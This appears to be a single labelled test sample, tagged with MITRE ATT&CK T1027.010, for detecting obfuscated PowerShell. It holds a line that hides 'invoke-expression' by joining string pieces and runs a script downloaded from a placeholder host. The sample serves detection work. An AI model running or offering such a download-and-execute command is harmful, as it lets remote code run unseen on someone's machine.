# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
$name = 'in','voke','-exp','ression' -join ''
& $name (Invoke-RestMethod -Uri http://files.example.invalid/stage)
